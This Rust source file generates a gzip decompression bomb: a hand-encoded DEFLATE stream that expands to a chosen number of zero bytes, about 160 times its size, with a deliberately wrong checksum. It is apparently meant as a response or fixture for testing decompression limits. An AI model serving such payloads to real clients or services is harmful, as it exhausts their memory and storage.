//! A small answer that unpacks into a large one.

/// Bytes that one repetition stands for.
const REPEATED: usize = 258;

/// A gzip file that unpacks into `size` zero bytes or a little more: some 160 times its own size.
///
/// One block in the fixed code of RFC 1951: a zero, then "the last byte 258 times more" again and again. Its checksum is wrong, which a
/// reader finds out when it has unpacked everything.
pub fn gzip_bomb(size: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], used: 0, last: 0 };
    bits.put("1 10 00110000");
    for _ in 0..size.div_ceil(REPEATED) {
        bits.put("11000101 00000");
    }
    bits.put("0000000");
    let mut bytes = bits.bytes;
    bytes.push(bits.last);
    bytes.extend([0; 8]);
    bytes
}

/// Bits on their way into bytes, the lowest first.
struct Bits {
    bytes: Vec<u8>,
    used: u8,
    last: u8,
}

impl Bits {
    fn put(&mut self, bits: &str) {
        for bit in bits.bytes().filter(|bit| *bit != b' ') {
            self.last |= (bit - b'0') << self.used;
            self.used += 1;
            if self.used == 8 {
                self.bytes.push(std::mem::take(&mut self.last));
                self.used = 0;
            }
        }
    }
}
